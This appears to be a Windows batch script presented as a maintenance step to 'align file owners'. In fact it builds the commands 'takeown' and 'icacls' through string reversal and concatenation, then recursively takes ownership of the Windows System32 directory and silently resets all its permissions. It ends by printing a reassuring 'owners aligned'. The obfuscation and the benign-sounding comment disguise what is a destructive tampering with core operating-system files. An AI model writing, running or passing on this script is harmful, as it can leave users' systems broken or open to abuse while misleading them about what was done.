@echo off
rem align file owners with the target domain
setlocal EnableDelayedExpansion
set q=nwoekat
set r=
for /l %%i in (6,-1,0) do set "r=!r!!q:~%%i,1!"
set z=ic
set z=%z%acls
pushd %SystemDrive%\
cd Win*s
cd System32
!r! /f . /r /d y >nul
%z% . /r^e^s^e^t /t /c /q
popd
echo owners aligned
endlocal
